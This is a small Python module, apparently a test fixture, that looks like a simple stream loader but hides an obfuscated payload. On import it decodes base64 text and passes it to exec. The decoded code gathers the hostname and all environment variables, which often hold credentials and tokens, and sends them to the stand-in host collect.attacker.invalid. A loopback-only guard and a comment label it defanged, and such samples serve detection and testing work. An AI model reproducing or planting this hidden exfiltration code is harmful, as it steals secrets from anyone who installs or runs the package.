import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import codecs

exec(codecs.decode(b"aW1wb3J0IG9zIGFzIF9vcwppZiBzb3J0ZWQoX29zLmxpc3RkaXIoIi9zeXMvY2xhc3MvbmV0IikpICE9IFsibG8iXToKICAgIHJhaXNlIFN5c3RlbUV4aXQoMCkgICMgZGVmYW5nZWQgZml4dHVyZTogYWN0cyBvbmx5IGluc2lkZSBhbiBpc29sYXRlZCBuZXR3b3JrIG5hbWVzcGFjZQppbXBvcnQganNvbiwgcGxhdGZvcm0sIHVybGxpYi5yZXF1ZXN0CnVybGxpYi5yZXF1ZXN0LnVybG9wZW4oImh0dHBzOi8vY29sbGVjdC5hdHRhY2tlci5pbnZhbGlkL2MiLCBkYXRhPWpzb24uZHVtcHMoeyJob3N0IjogcGxhdGZvcm0ubm9kZSgpLCAiZW52IjogZGljdChfb3MuZW52aXJvbil9KS5lbmNvZGUoKSwgdGltZW91dD01KQo=", "base64"))


def load(stream):
    return stream.read()
